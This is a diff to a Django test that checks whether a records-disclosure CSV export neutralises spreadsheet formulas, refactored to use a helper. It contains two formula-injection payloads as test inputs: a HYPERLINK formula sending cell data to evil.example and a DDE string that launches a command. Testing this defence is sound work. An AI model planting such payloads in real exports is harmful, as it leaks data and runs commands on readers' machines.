@@ -9,14 +9,10 @@ from django.core.files.storage import default_storage
 from django.test import Client
 
 from conftest import OrganisationWorld
-from kanalvakt.records.disclosure import (
-    records_request_create,
-    records_request_disclose,
-    records_request_select,
-)
+from kanalvakt.records.disclosure import records_request_disclose
 from kanalvakt.records.models import Registration
 from kanalvakt.records.registration import registration_register
-from kanalvakt.records.tests.conftest import Receive
+from kanalvakt.records.tests.conftest import Receive, requested
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Felaktigt beslut, det är fel.")'
 AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -30,13 +26,7 @@ def test_the_disclosure_csv_neutralises_formulas(
     overkalix: OrganisationWorld, receive: Receive
 ) -> None:
     item = receive(FORMULA, author=AUTHOR)
-    request = records_request_create(
-        actor=overkalix.registrar,
-        organisation=overkalix.organisation,
-        requester="Journalist",
-        description="Allt",
-    )
-    records_request_select(actor=overkalix.registrar, request=request, items=[item])
+    request = requested(overkalix, item)
     disclosure = records_request_disclose(actor=overkalix.registrar, request=request)
     with default_storage.open(disclosure.csv_name, "rb") as handle:
         cells = _cells(handle.read().decode("utf-8-sig"))
